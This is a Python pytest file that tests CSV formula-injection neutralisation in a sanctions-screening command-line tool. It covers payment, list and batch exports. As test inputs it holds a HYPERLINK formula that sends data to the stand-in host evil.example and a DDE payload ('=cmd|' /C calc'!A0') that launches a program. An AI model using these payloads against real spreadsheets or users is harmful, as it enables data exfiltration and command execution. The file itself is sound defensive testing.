"""CSV exports never carry a live spreadsheet formula: `frozen export`, `export --format csv` and
`batch --out x.csv` write text from outside (a payer name from another bank, a list entry, a
query id) with a leading apostrophe when a spreadsheet would otherwise run it."""

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from magnitsky.cli import app
from magnitsky.data import default_lists
from magnitsky.sources.csv_cells import from_spreadsheet_safe, spreadsheet_safe
from payments_support import message

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak","Baltic Timber Export GmbH")'


def run(home, *args):
    result = runner.invoke(app, ["--home", str(home), *args])
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def home(tmp_path):
    home = tmp_path / "home"
    run(home, "load", *map(str, default_lists()))
    return home


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_formula_starts_get_an_apostrophe_and_read_back_unchanged(start):
    value = f"{start}1+1"
    assert spreadsheet_safe(value) == f"'{value}" and from_spreadsheet_safe(spreadsheet_safe(value)) == value
    assert spreadsheet_safe("Dmitry Klyuev") == "Dmitry Klyuev" and spreadsheet_safe(0.93) == 0.93
    assert from_spreadsheet_safe("'t Hooft") == "'t Hooft"


def test_frozen_export_neutralises_a_payer_name_from_an_outside_bank(home, tmp_path):
    payment = tmp_path / "pacs008.xml"
    original = message("pacs008_magnit_creditor.xml")
    payment.write_bytes(original.replace(b"Baltic Timber Export GmbH", FORMULA.replace('"', "&quot;").encode()))
    assert json.loads(run(home, "payment", str(payment), "--json").stdout)["decision"] == "BLOCK"
    exported = run(home, "frozen", "export", "--format", "csv").stdout
    (row,) = csv.DictReader(io.StringIO(exported))
    assert row["originator"].startswith("'" + FORMULA)
    assert not [cell for cell in _cells(exported) if cell.startswith(("=", "+", "-", "@"))]


def test_list_export_neutralises_a_listed_name_and_loads_back_unchanged(home, tmp_path):
    own = tmp_path / "own_list.csv"
    own.write_text(f'id,schema,name\nx1,Company,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    run(home, "load", str(own))
    exported = tmp_path / "all.csv"
    run(home, "export", "--format", "csv", "--out", str(exported))
    rows = {row["id"]: row for row in csv.DictReader(exported.open(encoding="utf-8"))}
    assert rows["own_list:x1"]["name"] == "'" + FORMULA
    assert not [cell for cell in _cells(exported.read_text(encoding="utf-8")) if cell.startswith("=")]
    other = tmp_path / "other"
    run(other, "load", str(exported))
    shown = json.loads(run(other, "show", "own_list:own_list:x1", "--json").stdout)
    assert shown["names"][0]["full"] == FORMULA


def test_batch_csv_neutralises_query_ids(home, tmp_path):
    queries = tmp_path / "q.jsonl"
    qid = "=cmd|' /C calc'!A0"
    queries.write_text(json.dumps({"id": qid, "properties": {"name": ["Dmitry Klyuev"]}}) + "\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    run(home, "batch", str(queries), "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and {row["id"] for row in rows} == {"'" + qid}
    assert any(row["caption"] and "KLYUEV" in row["caption"].upper() for row in rows)
